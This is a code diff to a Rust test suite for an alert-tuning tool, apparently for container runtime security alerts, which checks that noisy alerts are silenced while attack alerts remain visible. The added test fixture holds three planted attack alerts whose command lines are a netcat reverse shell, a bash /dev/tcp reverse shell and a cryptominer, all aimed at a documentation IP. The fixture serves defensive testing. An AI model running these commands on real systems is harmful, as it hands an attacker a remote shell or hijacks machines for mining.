@@ -28,11 +28,6 @@ impl Loaded {
         Self { report: analyse(name, bytes).report, alerts }
     }
 
-    fn day(noise: u64) -> Self {
-        let lines: Vec<String> = noisy_day::lines(noise).collect();
-        Self::of("day.jsonl", lines.join("\n").as_bytes())
-    }
-
     fn select(&self, ids: &[&str], insist: bool) -> Plan {
         let select = ids.iter().map(|id| (*id).to_owned()).collect();
         propose(&self.report.insight, &Choice { select, insist, now: None }, &Ground::default())
@@ -288,7 +283,10 @@ fn files_of_every_finding_load_and_their_proofs_hold() {
     for (name, bytes) in captures() {
         let loaded = Loaded::of(&name, &bytes);
         let ids: Vec<&str> = loaded.report.insight.groups.iter().map(|group| group.id.as_str()).collect();
-        let mut plans = vec![propose(&loaded.report.insight, &Choice::default(), &Ground::default()), loaded.select(&ids, true)];
+        let mut plans = vec![
+            propose(&loaded.report.insight, &Choice::default(), &Ground::default()),
+            loaded.select(&ids, true),
+        ];
         plans.extend(ids.iter().take(1).map(|id| loaded.select(&[id], true)));
         for plan in plans {
             check(&loaded, &plan);
@@ -334,20 +332,66 @@ fn batches(files: &BTreeSet<String>) -> Vec<String> {
     batches.into_iter().map(|(_, text)| text).collect()
 }
 
+/// Attacks beside the one of the day, where the noise is: in its image and namespace, by a program that was
+/// put there, and by the name of a noisy program elsewhere. Rule, executable, image, command line.
+const PLANTED: [[&str; 4]; 3] = [
+    [
+        "Netcat Remote Code Execution in Container",
+        "/bin/nc",
+        "registry.example/team/probe",
+        "nc -e /bin/sh 203.0.113.9 4444",
+    ],
+    [
+        "Drop and execute new binary in container",
+        "/tmp/.x/probe",
+        "registry.example/team/probe",
+        "probe -o stratum+tcp://203.0.113.9:3333",
+    ],
+    [
+        "Platform rule 00",
+        "/dev/shm/probe",
+        "registry.example/team/probe",
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    ],
+];
+
+fn planted() -> impl Iterator<Item = String> {
+    PLANTED.into_iter().map(|[rule, executable, image, command]| {
+        serde_json::json!({
+            "rule": rule, "priority": "Warning", "source": "syscall", "output": format!("{rule} happened"),
+            "time": "2026-03-04T13:00:00.000000000Z", "hostname": "node-3",
+            "output_fields": {
+                "proc.exepath": executable, "proc.name": executable.rsplit('/').next(), "proc.cmdline": command,
+                "container.id": "badc0ffee123", "container.image.repository": image, "k8s.ns.name": "platform",
+                "k8s.pod.name": "probe-6c9d7f4b8-zzzzz", "user.name": "root", "proc.pname": "sh",
+            },
+        })
+        .to_string()
+    })
+}
+
 #[test]
-fn a_noisy_day_is_nearly_silent_and_its_attack_is_not() {
-    let loaded = Loaded::day(3000);
+fn a_noisy_day_is_nearly_silent_and_its_attacks_are_not() {
+    let lines: Vec<String> = noisy_day::lines(3000).chain(planted()).collect();
+    let loaded = Loaded::of("day.jsonl", lines.join("\n").as_bytes());
+    let rules: BTreeSet<&str> = loaded.alerts.iter().map(Alert::rule).collect();
+    assert!(rules.len() >= 30, "{}", rules.len());
     let plan = propose(&loaded.report.insight, &Choice::default(), &Ground::default());
     check(&loaded, &plan);
     let hidden: BTreeSet<u64> =
         tunings(&plan).flat_map(|(_, file)| simulated(&file.content, &loaded.alerts).0).collect();
+    println!("{} of {} alerts by {} rules are hidden", hidden.len(), loaded.alerts.len(), rules.len());
     assert!(hidden.len() * 100 >= loaded.alerts.len() * 95, "{} of {}", hidden.len(), loaded.alerts.len());
-    let attacks: Vec<&Alert> = (1..)
-        .zip(&loaded.alerts)
-        .filter(|(record, alert)| hidden.contains(record) && ATTACK.contains(&alert.rule()))
-        .map(|(_, alert)| alert)
-        .collect();
-    assert!(attacks.is_empty(), "{attacks:?}");
+    let is_attack = |alert: &Alert| {
+        let executable = alert.field_text("proc.exepath");
+        ATTACK.contains(&alert.rule())
+            || PLANTED.iter().any(|[rule, program, ..]| alert.rule() == *rule && executable == Some(*program))
+    };
+    let attacks: Vec<u64> =
+        (1..).zip(&loaded.alerts).filter(|(_, alert)| is_attack(alert)).map(|(record, _)| record).collect();
+    assert_eq!(attacks.len(), ATTACK.len() + PLANTED.len());
+    let lost: Vec<&u64> = attacks.iter().filter(|record| hidden.contains(record)).collect();
+    assert!(lost.is_empty(), "{lost:?}");
 }
 
 #[test]
